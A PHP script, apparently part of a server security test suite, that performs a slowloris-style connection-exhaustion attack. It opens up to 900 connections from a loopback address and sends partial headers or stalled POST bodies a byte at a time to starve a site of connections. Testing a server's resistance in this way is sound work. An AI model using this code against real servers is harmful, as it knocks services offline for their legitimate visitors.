<?php
/*
 * Occupies connections.
 *
 * Attacker: one address opens connections and sends heads and bodies a byte at a time, or nothing
 *   at all.
 * Must not happen: visitors of site B cannot connect; the front grows.
 * Checked: site B's answers, and their time.
 */
if (PHP_SAPI === 'cli') {
    attack(...array_slice($argv, 1));
    exit;
}
require __DIR__ . '/attack.php';

function attack(string $address, string $seconds, string $loot): void
{
    $report = fn ($line) => file_put_contents("$loot/report", "$line\n", FILE_APPEND);
    $clients = [];
    for ($until = microtime(true) + $seconds, $turn = 0; microtime(true) < $until; $turn++) {
        if (count($clients) < 900) {
            $from = stream_context_create(['socket' => ['bindto' => '127.0.0.9:0']]);
            $client = @stream_socket_client("tcp://$address", $number, $text, 1,
                STREAM_CLIENT_CONNECT, $from);
            if ($client) {
                stream_set_blocking($client, false);
                $head = ["GET /hello.php HTTP/1.1\r\nHost: a.example\r\nX: ",
                    "POST /echo.php HTTP/1.1\r\nHost: a.example\r\nContent-Length: 1000000\r\n\r\n",
                        '',
                    "POST /echo.php HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n"
                        . "\r\n"][$turn % 4];
                fwrite($client, $head);
                $clients[] = $client;
                $report('tried: a slow client');
            }
        }
        if ($clients) {
            @fwrite($clients[array_rand($clients)], 'x');
        }
        usleep(1_000);
    }
}
